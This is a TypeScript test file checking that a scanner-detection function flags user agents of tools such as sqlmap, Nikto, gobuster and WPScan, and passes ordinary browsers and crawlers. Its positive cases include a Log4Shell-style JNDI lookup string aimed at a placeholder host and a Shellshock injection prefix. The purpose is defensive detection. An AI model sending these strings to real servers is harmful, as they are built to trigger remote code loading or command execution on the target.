import { describe, expect, it } from "vitest";
import { PLAIN_BROWSERS } from "@/lib/feeds/guard/well-known/plain-visits";
import { isScanner } from "./more-crawlers";

describe("a security scanner's user agent", () => {
  it.each([
    "sqlmap/1.8.4#stable (https://sqlmap.org)",
    "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)",
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    "Mozilla/5.0 zgrab/0.x",
    "gobuster/3.6",
    "Fuzz Faster U Fool v2.1.0 ffuf",
    "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)",
    "\u0024{jndi:ldap://x.example/a}",
    "() { :; }; /bin/true",
  ])("%s", (ua) => {
    expect(isScanner(ua)).toBe(true);
  });
});

describe("no security scanner's user agent", () => {
  it.each([
    ...PLAIN_BROWSERS,
    "curl/8.5.0",
    "facebookexternalhit/1.1",
    "Mozilla/5.0 (pc-x86_64-linux-gnu) Siege/4.1.6",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
  ])("%s", (ua) => {
    expect(isScanner(ua)).toBe(false);
  });
});
